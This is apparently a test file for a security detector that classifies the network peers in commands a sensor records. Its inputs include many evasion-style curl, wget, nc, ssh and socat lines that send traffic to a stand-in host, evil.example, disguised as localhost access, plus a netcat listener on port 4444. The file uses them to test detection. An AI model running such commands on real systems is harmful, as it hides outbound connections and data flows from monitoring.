import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { defaultDetectConfig } from '../../src/detect/config.ts';
import { exampleEvent } from '../../src/detect/examples.ts';
import { createDetector } from '../../src/detect/index.ts';
import type { ExecEvent } from '../../src/model/exec-event.ts';
import type { FindingPeer } from '../../src/model/finding.ts';

const detector = createDetector(defaultDetectConfig());
const peersOf = (event: ExecEvent) => detector.judge(event).peers;
const shown = (peers: FindingPeer[] | undefined) =>
  peers?.map(({ role, class: place, host, port, path }) =>
    [role, place, host ?? path, port].filter((part) => part !== undefined).join(' '),
  );

/** The same command as a sensor tells it that joins the words. */
function joined(words: readonly string[], quality: 'split' | 'truncated' | 'lost' = 'split'): ExecEvent {
  const event = exampleEvent({ run: 'curl' });
  const text = words.slice(1).join(' ');
  event.sensor = 'falco';
  event.process.argv = [words[0]!, ...(text === '' ? [] : text.split(' '))];
  event.process.argv_quality = quality;
  event.process.arguments = text;
  return event;
}

describe('the peers a finding names', () => {
  it.each([
    ['curl -s http://localhost:9200/_cluster/health', ['connect loopback localhost 9200']],
    [
      'curl http://127.1/ https://evil.example/x',
      ['connect loopback 127.0.0.1 80', 'connect public_name evil.example 443'],
    ],
    ['nc -l -p 4444', ['listen any 4444']],
    ['dig @10.0.0.2 a.example', ['resolver internal 10.0.0.2', 'query public_name a.example']],
    ['curl --unix-socket /run/app.sock http://x/', ['connect unix /run/app.sock']],
    [
      'curl -x http://proxy.corp:3128 http://localhost/',
      ['proxy internal proxy.corp 3128', 'connect loopback localhost 80', 'connect unknown'],
    ],
    [
      'curl --resolve localhost:80:203.0.113.9 http://localhost/',
      ['connect loopback localhost 80', 'connect public_ip 203.0.113.9 80', 'connect unknown'],
    ],
    ['curl http://$HOST/', ['connect unknown 80']],
    ['nmap -iL /tmp/hosts', ['connect unknown']],
    ['curl --version', []],
  ])('%s', (run, peers) => {
    const seen = shown(peersOf(exampleEvent({ run })));
    expect([...seen!].sort()).toEqual([...peers].sort());
  });

  it.each([
    'curl -K /tmp/x http://localhost/',
    'wget --config=/tmp/x http://localhost/',
    'ssh -F /tmp/x localhost',
    'scp -F /tmp/x a localhost:b',
    'curl --connect-to ::evil.example:80 http://localhost/',
    'curl --preproxy socks5://evil.example http://localhost/',
    'curl --doh-url https://evil.example/ http://localhost/',
    'curl --expand-url http://localhost{{x}}/',
    'curl --ipfs-gateway http://evil.example ipfs://localhost',
    'curl http://localhost/ --next http://evil.example/',
    'curl http://localhost@evil.example/',
    'curl http://evil.example#@localhost/',
    "curl 'http://{localhost,evil.example}/'",
    'curl http://localhost.evil.example/',
    'wget -i /tmp/list http://localhost/',
    'wget -e http_proxy=evil.example:80 http://localhost/',
    'nc -x evil.example:80 localhost 22',
    'ncat --proxy evil.example localhost 80',
    'socat TCP:localhost:80 TCP:evil.example:80',
    "ssh -o ProxyCommand='nc evil.example 22' localhost",
    'ssh -J evil.example localhost',
    'ssh -L 80:evil.example:80 localhost',
    'proxychains curl http://localhost/',
    'dig @127.0.0.1 data.evil.example',
    'xargs curl http://localhost/',
  ])('are not loopback only: %s', (run) => {
    const classes = (peersOf(exampleEvent({ run })) ?? []).map((peer) => peer.class);
    expect(classes.length === 0 || classes.some((one) => one !== 'loopback')).toBe(true);
  });

  it('are not told where no tool was read', () => {
    expect(peersOf(exampleEvent({ run: 'ls /' }))).toBeUndefined();
  });

  it('are 32 at most, and say when there are more', () => {
    const hosts = Array.from({ length: 50 }, (_, i) => `http://h${i}.example/`).join(' ');
    const peers = peersOf(exampleEvent({ run: `curl ${hosts}` }))!;
    expect(peers).toHaveLength(33);
    expect(peers.at(-1)).toEqual({ role: 'connect', class: 'unknown' });
  });

  it('hold no part of a password', () => {
    const peers = peersOf(exampleEvent({ run: 'curl http://user:geheim@h.example/' }));
    expect(JSON.stringify(peers)).not.toContain('geheim');
  });
});

describe('where the sensor joined the words', () => {
  it.each([
    ['one way to read it', ['curl', 'http://localhost:9200/'], ['connect loopback localhost 9200']],
    ['a flag before it', ['curl', '-s', '-f', 'http://localhost/'], ['connect loopback localhost 80']],
    [
      'an option that may have swallowed a peer',
      ['curl', '-H', 'X -o', 'evil.example', 'http://localhost/'],
      ['connect loopback localhost 80', 'connect unknown'],
    ],
  ])('%s', (_what, words, peers) => {
    expect(shown(peersOf(joined(words)))).toEqual(peers);
  });

  it.each(['truncated', 'lost'] as const)('%s words leave it open', (quality) => {
    expect(peersOf(joined(['curl', 'http://localhost/'], quality))?.at(-1)?.class).toBe('unknown');
  });

  it('no split names a peer that is not told, or it is said to be open', () => {
    const word = fc.constantFrom(
      '-s',
      '-o',
      '-H',
      '-x',
      '-d',
      'X',
      'http://localhost/',
      'evil.example',
      '-k',
      'a b',
      'X -o',
    );
    const key = (peer: FindingPeer) => JSON.stringify(peer);
    fc.assert(
      fc.property(fc.array(word, { maxLength: 5 }), (words) => {
        const exact = exampleEvent({ run: 'curl' });
        exact.process.argv = ['curl', ...words];
        const told = new Set((peersOf(joined(['curl', ...words])) ?? []).map(key));
        if (told.has(key({ role: 'connect', class: 'unknown' }))) return;
        for (const peer of peersOf(exact) ?? []) expect(told).toContain(key(peer));
      }),
      { numRuns: 400 },
    );
  });
});
